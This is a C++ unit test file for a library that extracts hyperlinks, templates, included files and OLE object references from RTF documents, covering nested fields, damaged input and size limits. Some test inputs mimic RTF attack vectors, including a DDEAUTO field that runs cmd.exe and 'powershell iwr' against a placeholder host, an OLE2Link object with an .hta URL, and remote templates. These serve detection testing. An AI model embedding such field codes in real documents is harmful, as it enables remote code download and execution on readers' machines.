// References in Rich Text Format (1.9.1).
#include <algorithm>
#include <string>

#include "catch.h"
#include "documents/collect.h"
#include "documents/office/field_code.h"
#include "documents/ole_builder.h"
#include "text/ascii.h"

// In a namespace of its own, because test files are compiled together.
namespace mimebase::rtf_test {

using documents::Format;
using documents::Reading;
using test::Collected;
using namespace test::ole;

namespace {

std::string found_in(std::string_view rtf) {
  return test::references_in(Format::kRtf, "{\\rtf1\\ansi " + std::string(rtf) + "}");
}

std::string hex_of(std::string_view bytes) {
  std::string hex;
  for (const char c : bytes) ascii::append_hex(static_cast<unsigned char>(c), ascii::kLowerHexDigits, hex);
  return hex;
}

std::string object(const std::string& bytes) {
  return R"({\object\objemb{\*\objclass X}{\*\objdata )" + hex_of(bytes) + "}{\\result {\\pict 00}}}";
}

struct Row {
  std::string rtf, found;
};

}  // namespace

TEST_CASE("fields") {
  const Row kRows[] = {
      {R"({\field{\*\fldinst HYPERLINK "http://a/b?c=\'e9"}{\fldrslt {\ul a\par  link}}})",
       "rtf:hyperlink (field 1) http://a/b?c=\u00E9 [a link]\n"},
      {R"({\field{\*\fldinst{\rtlch hyper}{\b LINK "http}{://a/"}}{\fldrslt x}})",
       "rtf:hyperlink (field 1) http://a/ [x]\n"},
      {R"({\field{\*\fldinst HYPERLINK  http://a/b  \\o "tip" \\t _blank}{\fldrslt}})",
       "rtf:hyperlink (field 1) http://a/b\n"},
      {R"({\field{\*\fldinst HYPERLINK \\o "tip" "http://a/"}})", "rtf:hyperlink (field 1) http://a/\n"},
      {R"({\field{\*\fldinst HYPERLINK "http://a/" \\l "top"}{\fldrslt x}})",
       "rtf:hyperlink (field 1) http://a/#top [x]\n"},
      {R"({\field{\*\fldinst HYPERLINK \\l "top"}{\fldrslt x}})", ""},
      {R"({\field{\*\fldinst HYPERLINK "C:\\\\a\\\\b \\"c\\".doc"}{\fldrslt x}})",
       "rtf:hyperlink (field 1) C:\\a\\b \"c\".doc [x]\n"},
      {R"({\field{\*\fldinst HYPERLINK ")"
       "\r\n"
       R"(x/y.html"}{\fldrslt x}})",
       "rtf:hyperlink (field 1) x/y.html [x]\n"},
      {R"({\field{\*\fldinst INCLUDEPICTURE "http://a/x.png" \\* MERGEFORMAT \\d}{\fldrslt {\pict 00}}})",
       "rtf:include (field 1) http://a/x.png\n"},
      {R"({\field{\*\fldinst INCLUDETEXT "\\\\\\\\host\\\\x.doc" bookmark}{\fldrslt x}})",
       "rtf:include (field 1) \\\\host\\x.doc\n"},
      {R"({\field{\*\fldinst LINK Word.Document.8 "http://a/x.doc" "" \\a \\f 0}{\fldrslt x}})",
       "rtf:object (field 1) http://a/x.doc\n"},
      {R"({\field{\*\fldinst DDEAUTO Excel "C:\\\\x.xls" R1C1}{\fldrslt x}})",
       "rtf:object (field 1) C:\\x.xls\n"},
      {R"({\field{\*\fldinst DDEAUTO c:\\\\cmd.exe "/k powershell iwr 'http://a/x'"}{\fldrslt x}})",
       "rtf:object (field 1) c:\\cmd.exe\nrtf:object (field 1) http://a/x\n"},
      {R"({\field{\*\fldinst DATABASE \\d "http://a/x.mdb" \\c "DSN=x"}})",
       "rtf:include (field 1) http://a/x.mdb\n"},
      {R"({\field{\*\fldinst PAGE}{\fldrslt 1}}{\field{\*\fldinst HYPERLINK "a"}{\fldrslt x}})",
       "rtf:hyperlink (field 2) a [x]\n"},
      {R"({\field{\*\fldinst HYPERLINK}{\fldrslt x}}{\field}{\field{\fldrslt x}}{\field{\*\fldinst}})", ""},
      // Fields in the instruction and in the result of others.
      {R"({\field{\*\fldinst HYPERLINK "{\field{\*\fldinst REF x}{\fldrslt http://b/}}y"}{\fldrslt x}})",
       "rtf:hyperlink (field 1) http://b/y [x]\n"},
      {R"({\field{\*\fldinst DDE x {\field{\*\fldinst QUOTE 104 116 0x74 "p://a"}{\fldrslt old}}}{\fldrslt x}})",
       "rtf:object (field 1) http://a\n"},
      {R"({\field{\*\fldinst HYPERLINK "http://a/"}{\fldrslt {\field{\*\fldinst INCLUDEPICTURE "http://b/"}{\fldrslt x}}y}})",
       "rtf:include (field 2) http://b/\nrtf:hyperlink (field 1) http://a/ [xy]\n"},
      // Destinations that are not marked, missing, or cut off.
      {R"({\field{\fldinst HYPERLINK "http://a/"}{\fldrslt x}})", "rtf:hyperlink (field 1) http://a/ [x]\n"},
      {R"({\*\fldinst HYPERLINK "http://a/"})", "rtf:hyperlink (field 1) http://a/\n"},
      {R"({\field{\*\fldinst HYPERLINK "http://a/"}{\fldrslt x)", "rtf:hyperlink (field 1) http://a/ [x]\n"},
      {R"({\*\unknown{\field{\*\fldinst HYPERLINK "http://a/"}}})", ""},
      {R"({\header {\field{\*\fldinst HYPERLINK "http://a/"}{\fldrslt x}}})",
       "rtf:hyperlink (field 1) http://a/ [x]\n"},
  };
  for (const Row& row : kRows) {
    CAPTURE(row.rtf);
    CHECK(found_in(row.rtf) == row.found);
  }
}

TEST_CASE("hyperlinks whose instruction has no URL have one in their data") {
  const std::string data = hex_of("\xD0\xC9\xEA\x79" + url_moniker("http://a/b"));
  const auto field = [&](std::string_view code) {
    return R"({\field{\*\fldinst {HYPERLINK )" + std::string(code) + R"(}{{\*\datafield )" + data +
           R"(}}}{\fldrslt x}})";
  };
  CHECK(found_in(field("\"http://a/\"")) == "rtf:hyperlink (field 1) http://a/ [x]\n");
  CHECK(found_in(field("")) == "rtf:hyperlink (field 1) http://a/b [x]\n");
}

TEST_CASE("text") {
  const Row kRows[] = {
      {R"(see http://a/b\par or {\b https://c/}d.)", "text (text) http://a/b\ntext (text) https://c/d\n"},
      // The label of a hyperlink is no text; what other fields show is.
      {R"({\field{\*\fldinst HYPERLINK "http://a/"}{\fldrslt http://b/}} {\field{\*\fldinst REF x}{\fldrslt http://c/}})",
       "rtf:hyperlink (field 1) http://a/ [http://b/]\ntext (text) http://c/\n"},
      {R"({\info{\title http://a/}{\doccomm http://b/}}{\stylesheet http://c/;}{\*\x http://d/}{\pict http://e/})",
       ""},
      {R"({\footer http://a/}{\footnote http://b/}{\*\annotation http://c/}{\shp{\*\shpinst{\shptxt http://d/}}})",
       "text (text) http://a/\ntext (text) http://b/\ntext (text) http://c/\ntext (text) http://d/\n"},
      {R"(<URL:x/y>)", "text:delimited (text) x/y\n"},
      {R"({\upr{http://a/?}{\*\ud{http://a/\u233 ?}}})", "text (text) http://a/\u00E9\n"},
  };
  for (const Row& row : kRows) {
    CAPTURE(row.rtf);
    CHECK(found_in(row.rtf) == row.found);
  }
}

TEST_CASE("templates, files and hyperlinks of shapes") {
  const Row kRows[] = {
      {R"({\*\template http://a/x.dotm})", "rtf:template (template) http://a/x.dotm\n"},
      {R"({\*\template \\\\host\\x.dotm})", "rtf:template (template) \\\\host\\x.dotm\n"},
      {R"({\*\template \u104?\u116?tp:{\b //a}\'2f})", "rtf:template (template) http://a/\n"},
      {R"({\template http://a/})", "rtf:template (template) http://a/\n"},
      {R"({\*\template })", ""},
      {R"({\*\template http://a/)", "rtf:template (template) http://a/\n"},
      {R"({\*\filetbl{\file\fid0\fnetwork \\\\host\\a}{\file\fid1 b.rtf}}{\*\nextfile c.rtf})",
       "rtf:include (file 1) \\\\host\\a\nrtf:include (file 2) b.rtf\nrtf:include (file 3) c.rtf\n"},
      {R"({\shp{\*\shpinst{\sp{\sn pihlShape}{\sv {\*\hl{\hlfr a  b}{\hlsrc http://a/}{\hlloc c}}}}}})",
       "rtf:hyperlink (shape 1) http://a/#c [a b]\n"},
      {R"({\shp{\sp{\sn pihlShape}{\sv {\*\hl{\hlloc c}}}}})", ""},
      {R"({\*\shppict{\pict{\*\picprop{\sp{\sn pibName}{\sv http://a/}}{\sp{\sn pibFlags}{\sv 10}}}0102}})",
       "rtf:include (shape 1) http://a/\n"},
      {R"({\shp{\sp{\sn pibName}{\sv http://a/}}{\sp{\sn pibFlags}{\sv 2}}})", ""},
      {R"({\shp{\sp{\sn fillBlipFlags}{\sv 14}}{\sp{\sn fillBlipName}{\sv a.png}}})",
       "rtf:include (shape 1) a.png\n"},
      {R"({\shp{\sp{\sn pibName}{\sv a}}}{\shp{\sp{\sn pibFlags}{\sv 8}}})", ""},
  };
  for (const Row& row : kRows) {
    CAPTURE(row.rtf);
    CHECK(found_in(row.rtf) == row.found);
  }
}

TEST_CASE("objects") {
  const Row kRows[] = {
      {object(linked_object("http://a/x.xls")), "rtf:object (object 1) http://a/x.xls\n"},
      {object("") + object(linked_object("\\\\host\\x")), "rtf:object (object 2) \\\\host\\x\n"},
      {object(embedded_object("OLE2Link", "\xD0\xCF\x11\xE0" + url_moniker("http://a/x.hta") +
                                              url_moniker("http://a/x.hta") + url_moniker("b"))),
       "rtf:object (object 1) http://a/x.hta\nrtf:object (object 1) b\n"},
      {object(file_moniker(0, "C:\\x", "")), "rtf:object (object 1) C:\\x\n"},
      {object(file_moniker(2, "x", "long name")), "rtf:object (object 1) ..\\..\\long name\n"},
      {object(embedded_object("Package", package("a.htm", 3, "<a href='http://a/'>x</a>"))),
       "a@href (object 1) http://a/ [x]\n"},
      {object(embedded_object("Package", package("http://a/", 1, ""))), "rtf:object (object 1) http://a/\n"},
      {object(embedded_object("x", R"({\rtf1{\*\template http://a/}})")),
       "rtf:template (object 1!template) http://a/\n"},
      {object(embedded_object("Word.Document.12", compound("Package", R"({\rtf1{\*\template http://a/}})"))),
       "rtf:template (object 1!template) http://a/\n"},
      {object(embedded_object("Packager",
                              compound("\1Ole10Native", number(99) + package("a.htm", 3, "<img src=x>")))),
       "img@src (object 1) x\n"},
      {object(embedded_object("Packager", compound("Other", R"({\rtf1{\*\template http://a/}})"))), ""},
      {object(embedded_object("x", "")), ""},
      {object(kUrlMoniker), ""},
      {object(kUrlMoniker + number(0xFFFFFFFF)), ""},
      {object(number(0x501) + number(1) + number(0xFFFFFFFF)), ""},
  };
  for (const Row& row : kRows) {
    CAPTURE(row.rtf);
    CHECK(found_in(row.rtf) == row.found);
  }
}

TEST_CASE("objects are found in what Word accepts for hexadecimal data") {
  const std::string hex = hex_of(linked_object("http://a/x"));
  const std::string kFound = "rtf:object (object 1) http://a/x\n";
  std::string split;
  for (const char c : hex) split += std::string(1, c) + "\r\n{\\x1 }\\y z";
  CHECK(found_in("{\\object{\\*\\objdata " + split + "}}") == kFound);
  CHECK(found_in("{\\object\\objupdate{\\*\\objdata {\\*\\objclass 0102}" + hex + "}}") == kFound);
  CHECK(found_in("{\\object{\\objdata \\bin" + std::to_string(hex.size() / 2) + " " +
                 linked_object("http://a/x") + "}}") == kFound);
}

TEST_CASE("the base of hyperlinks") {
  struct BaseRow {
    const char *rtf, *base;
  };
  const BaseRow kRows[] = {
      {R"({\rtf1{\info{\title x}{\*\hlinkbase  http://a/b/ }}y})", "http://a/b/"},
      {R"({\rtf1{\info{\hlinkbase http://a/\u233 ?}}y})", "http://a/\u00E9"},
      {R"({\rtf1{\*\unknown{\hlinkbase http://a/}}y})", ""},
      {R"({\rtf1{\info{\*\hlinkbase}}\\hlinkbase})", ""},
      {R"({\rtf1 x})", ""},
  };
  for (const BaseRow& row : kRows) {
    CAPTURE(row.rtf);
    Reading reading(find::kPresetLimits);
    const auto bases = documents::open(Format::kRtf, row.rtf, reading)->bases();
    CHECK((bases.empty() ? "" : bases[0].reference) == row.base);
    if (!bases.empty()) CHECK(bases[0].by == BaseBy::kRtfBase);
  }
}

TEST_CASE("HTML in RTF is searched as HTML, and the RTF for what the HTML lacks") {
  const std::string rtf =
      R"({\rtf1\ansi\fromhtml1{\*\htmltag <meta charset=windows-1251><base href="http://b/">)"
      R"(<a href="x?a=\'e9&amp;b">}\htmlrtf{\field{\*\fldinst HYPERLINK "X?a=%C3%A9&b/"}{\fldrslt\htmlrtf0 text)"
      R"(\htmlrtf}}\htmlrtf0{\*\htmltag </a>} http://c/ \htmlrtf http://c http://d/ )"
      R"({\*\template http://t/}\htmlrtf0})";
  Reading reading(find::kPresetLimits);
  Collected collected;
  const auto document = documents::open(Format::kRtf, rtf, reading);
  CHECK(document->bases().empty());
  document->find(collected);
  CHECK(collected.scopes == std::vector<std::string>{"html-base http://b/"});
  CHECK(collected.lines ==
        std::vector<std::string>{"base@href (html) http://b/", "a@href (html) x?a=\u00E9&b [text] in scope 1",
                                 "html:text (html) http://c/ in scope 1", "rtf:template (template) http://t/",
                                 "text (text) http://d/"});
}

TEST_CASE("codes of fields") {
  struct CodeRow {
    const char *code, *name, *arguments;
  };
  const CodeRow kRows[] = {
      {"HYPERLINK \"a b\" c", "HYPERLINK", "a b|c|"},
      {" hyperlink\"a\"", "HYPERLINK", "a|"},
      {"HYPERLINK \u201Ca\u201D", "HYPERLINK", "a|"},
      {"HYPERLINK \"a", "HYPERLINK", "a|"},
      {"HYPERLINK \\\\\\\\h\\\\x", "HYPERLINK", "\\\\h\\x|"},
      {"HYPERLINK \"a?\\{b\\}\"", "HYPERLINK", "a?{b}|"},
      {"HYPERLINK a\\b", "HYPERLINK", "a\\b|"},
      {"HYPERLINK \\o \\t _top a", "HYPERLINK", "a|"},
      {"HYPERLINK \\n a \\o", "HYPERLINK", "a|"},
      {"PAGE \\* MERGEFORMAT", "PAGE", ""},
      {"", "", ""},
      {"\\", "", "\\|"},
      {"= 1", "", "=|1|"},
  };
  for (const CodeRow& row : kRows) {
    CAPTURE(row.code);
    const documents::FieldCode code = documents::parse_field_code(row.code);
    CHECK(code.name == row.name);
    std::string arguments;
    for (const std::string& argument : code.arguments) arguments += argument + "|";
    CHECK(arguments == row.arguments);
  }
}

TEST_CASE("limits") {
  const auto limit_of = [](const std::string& rtf, const Limits& limits) {
    Reading reading(limits);
    Collected collected;
    documents::open(Format::kRtf, rtf, reading)->find(collected);
    return collected.limits.empty() ? -1 : static_cast<int>(collected.limits[0]);
  };
  Limits limits;
  limits.document_bytes = 100;
  limits.document_objects = 10;
  std::string fields;
  for (int i = 0; i < 20; ++i) fields += R"({\field{\*\fldinst PAGE}})";
  CHECK(limit_of("{\\rtf1 " + object(std::string(200, 'a')) + "}", limits) ==
        static_cast<int>(find::FindLimit::kDocumentBytes));
  CHECK(limit_of("{\\rtf1 " + object(std::string(50, 'a')) + "}", limits) == -1);
  limits.document_bytes = 1000;  // for the field that is open
  CHECK(limit_of("{\\rtf1 " + fields + "}", limits) == static_cast<int>(find::FindLimit::kDocumentObjects));
  // What is passed on through many levels takes steps.
  limits = {};
  limits.document_steps = 100'000;
  std::string levels;
  for (int i = 0; i < 300; ++i) levels += R"({\field{\*\fldinst QUOTE )" + std::string(1000, 'x') + " ";
  CHECK(limit_of("{\\rtf1 " + levels, limits) == static_cast<int>(find::FindLimit::kDocumentSteps));
}

TEST_CASE("nothing in RTF is too much to be read") {
  const std::string url = "http://a/" + std::string(2 << 20, 'x');
  const std::string field = "rtf:hyperlink (field 1) " + url + "\n";
  CHECK(found_in(R"({\field{\*\fldinst HYPERLINK )" + url + "}}") == field);
  CHECK(found_in(R"({\*\template )" + url + "}") == "rtf:template (template) " + url + "\n");
  // The result of a field in the code of another one.
  CHECK(found_in(R"({\field{\*\fldinst HYPERLINK "{\field{\*\fldinst IF a}{\fldrslt )" + url + "}}\"}}") ==
        field);
  std::string numbers, monikers, deep, found;
  for (int i = 0; i < 1000; ++i) numbers += " 97";
  CHECK(found_in(R"({\field{\*\fldinst HYPERLINK "{\field{\*\fldinst QUOTE)" + numbers + "}}\"}}") ==
        "rtf:hyperlink (field 1) " + std::string(1000, 'a') + "\n");
  for (int i = 0; i < 3000; ++i) monikers += url_moniker("http://" + std::to_string(i) + "/");
  CHECK(std::ranges::count(found_in(object(monikers)), '\n') == 3000);
  // Deep groups and fields.
  const std::string open(20'000, '{'), close(20'000, '}');
  CHECK(found_in(open + R"({\*\x y}{\*\template http://a/})" + close) ==
        "rtf:template (template) http://a/\n");
  for (int i = 0; i < 3000; ++i) deep += R"({\field{\*\fldinst HYPERLINK http://a/}{\fldrslt )";
  CHECK(std::ranges::count(found_in(deep), '\n') == 3000);
  CHECK(found_in(R"({\field{\*\fldinst HYPERLINK http://a/}{\fldrslt )" + std::string(5000, ' ') + "b" +
                 std::string(5000, ' ') + "c}}") == "rtf:hyperlink (field 1) http://a/ [b c]\n");
  CHECK(found_in(R"({\field{\*\fldinst DDE a b 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 http://a/}})") ==
        "rtf:object (field 1) http://a/\n");
}

TEST_CASE("damaged RTF is read to its end") {
  const std::string link = R"({\field{\*\fldinst HYPERLINK http://a/}{\fldrslt x}})";
  const std::string found = "rtf:hyperlink (field 1) http://a/ [x]\n";
  CHECK(found_in("}}}" + link) == found);
  CHECK(found_in("{{{" + link) == found);
  CHECK(found_in(R"({\*\x y}}})" + link) == found);
  CHECK(found_in(R"({\pict\bin99999 z})" + link) == found);
  CHECK(found_in("{\\object{\\*\\objdata 1" + hex_of(linked_object("http://a/")) + "}}" + link) == found);
  CHECK(found_in("{\\stylesheet{\\s1 x;}{\\s2 y;" + link) == found);
  CHECK(found_in("{\\stylesheet{\\*\\x{y" + link) == found);
  CHECK(found_in("{\\stylesheet x;}{\\*\\x{" + link) == found);
  CHECK(found_in("{\\stylesheet{\\s1 x;}" + link + "}") == "");
  CHECK(found_in("{\\field{\\*\\fldinst HYPER\fLI\x1CNK http://\x01"
                 "a/}{\\fldrslt x}}") == found);
  CHECK(found_in(link + "{\\stylesheet{\\s1 x;}{\\s2 y;}" + link) == found);
  CHECK(found_in("{\\object{\\*\\objdata \\bin99999 " + linked_object("http://a/x")) ==
        "rtf:object (object 1) http://a/x\n");
  Reading reading(find::kPresetLimits);
  Collected collected;
  documents::open(Format::kRtf, R"({\rtf1{\pict\bin99999 z}})", reading)->find(collected);
  REQUIRE(reading.damage.size() == 1);
  CHECK(reading.damage.front().text == "binary data in it is longer than the document");
}

}  // namespace mimebase::rtf_test
